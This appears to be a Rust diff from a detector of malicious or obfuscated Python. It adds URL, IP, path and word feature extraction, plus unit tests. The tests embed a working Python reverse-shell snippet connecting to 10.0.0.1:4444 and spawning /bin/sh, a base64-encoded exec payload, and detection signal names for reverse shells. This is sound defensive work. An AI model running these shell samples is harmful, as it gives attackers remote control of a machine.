+            if depth < self.limits.max_depth
+                && s.len() >= 32
+                && (memchr_sub(s, b"import ") || memchr_sub(s, b"exec(") || memchr_sub(s, b"__import__"))
+            {
+                found(s.to_vec(), depth + 1, LayerKind::Escapes, acc);
+            }
+        }
+        // URL parts.
+        let mut rest = s;
+        let mut guard = 0;
+        while let Some(p) = find_sub(rest, b"://") {
+            guard += 1;
+            if guard > 16 {
+                break;
+            }
+            let scheme_start = rest[..p]
+                .iter()
+                .rposition(|c| !c.is_ascii_alphanumeric() && *c != b'+')
+                .map_or(0, |x| x + 1);
+            let mut low = Vec::new();
+            lower_into(&mut low, &rest[scheme_start..p]);
+            if low.len() <= 16 {
+                acc.emit("url", &[&low]);
+            }
+            let host_start = p + 3;
+            let host_end = rest[host_start..]
+                .iter()
+                .position(|c| matches!(c, b'/' | b':' | b'?' | b'\'' | b'"' | b' ' | b'\n'))
+                .map_or(rest.len(), |x| host_start + x);
+            let host = &rest[host_start..host_end];
+            if is_ipv4(host) && !host.starts_with(b"127.") && host != b"0.0.0.0" {
+                acc.ip_host = true;
+                acc.emit("url", &[b"ip-host"]);
+            }
+            if let Some(dot) = host.iter().rposition(|&c| c == b'.') {
+                let tld = &host[dot + 1..];
+                if tld.len() <= 12 && tld.iter().all(|c| c.is_ascii_alphabetic()) {
+                    lower_into(&mut low, tld);
+                    acc.emit("tld", &[&low]);
+                }
+            }
+            rest = &rest[host_end.min(rest.len())..];
+        }
+        if is_ipv4(s.trim_ascii()) && !s.starts_with(b"127.") && s.trim_ascii() != b"0.0.0.0" {
+            acc.ip_host = true;
+            acc.emit("str", &[b"ipv4"]);
+        }
+        if s.first() == Some(&b'/') || s.starts_with(b"~/") {
+            let comp_end = s[2..]
+                .iter()
+                .position(|&c| c == b'/' || c == b' ')
+                .map_or(s.len(), |x| x + 2);
+            let mut low = Vec::new();
+            lower_into(&mut low, &s[..comp_end.min(s.len()).min(40)]);
+            acc.emit("path", &[&low]);
+        }
+        // Words.
+        let mut count = 0;
+        let mut low = Vec::new();
+        for w in s.split(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-')) {
+            if w.len() < 2 {
+                continue;
+            }
+            count += 1;
+            if count > 256 {
+                break;
+            }
+            if w.len() > 24 {
+                acc.emit("s", &[b"<long>"]);
+            } else {
+                lower_into(&mut low, w);
+                acc.emit("s", &[&low]);
+            }
+        }
+    }
+}
+
+fn find_sub(h: &[u8], n: &[u8]) -> Option<usize> {
+    if n.is_empty() || h.len() < n.len() {
+        return None;
+    }
+    h.windows(n.len()).position(|w| w == n)
+}
+
+fn memchr_sub(h: &[u8], n: &[u8]) -> bool {
+    find_sub(h, n).is_some()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn has_signal(a: &Analysis, name: &str) -> bool {
+        let i = (0..N_SIGNALS).find(|&i| signal_name(i) == name).unwrap() as u32;
+        a.features.idx.contains(&i)
+    }
+
+    #[test]
+    fn reverse_shell_signals() {
+        let a = Extractor::new().analyze(
+            b"import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
+        );
+        assert!(a.not_python.is_none());
+        assert!(has_signal(&a, "c:revshell"));
+        assert!(has_signal(&a, "g:dup2"));
+    }
+
+    #[test]
+    fn base64_layer_is_decoded() {
+        // exec(base64.b64decode("import socket,os,pty; os.dup2(1,0)"))
+        let a = Extractor::new()
+            .analyze(b"import base64\nexec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7IG9zLmR1cDIoMSwwKQ=='))\n");
+        assert_eq!(a.layers, 1);
+        assert!(has_signal(&a, "c:exec_decoded"));
+        assert!(has_signal(&a, "c:layer_code"));
+        assert!(has_signal(&a, "g:dup2"));
+    }
+
+    #[test]
+    fn chr_join_is_decoded() {
+        let code = "import os";
+        let mut s = String::from("exec(''.join([");
+        for (k, c) in code.chars().enumerate() {
+            if k > 0 {
+                s.push(',');
+            }
+            s.push_str(&format!("chr({})", c as u32));
+        }
+        s.push_str("]))");
+        let a = Extractor::new().analyze(s.as_bytes());
+        assert_eq!(a.layers, 1, "{s}");
+    }
+
+    #[test]
+    fn binary_is_not_python() {
+        assert!(Extractor::new().analyze(b"\x7fELF\x02\x01").not_python.is_some());
+        assert!(Extractor::new().analyze(b"").not_python.is_some());
+        assert!(Extractor::new().analyze(&[0u8, 1, 2, 3, 200, 201]).not_python.is_some());
+    }
+
+    #[test]
+    fn named_features() {
+        let a = Extractor::new().analyze(b"import os\nos.system('id')\n");
+        let want: Vec<u32> = a.features.idx.iter().copied().filter(|&i| i as usize >= N_SIGNALS).collect();
+        let b = Extractor::new().analyze_named(b"import os\nos.system('id')\n", &want);
+        assert!(b.names.values().any(|n| n == "c:os.system"));
+        assert_eq!(a.features, b.features);
+    }
+}
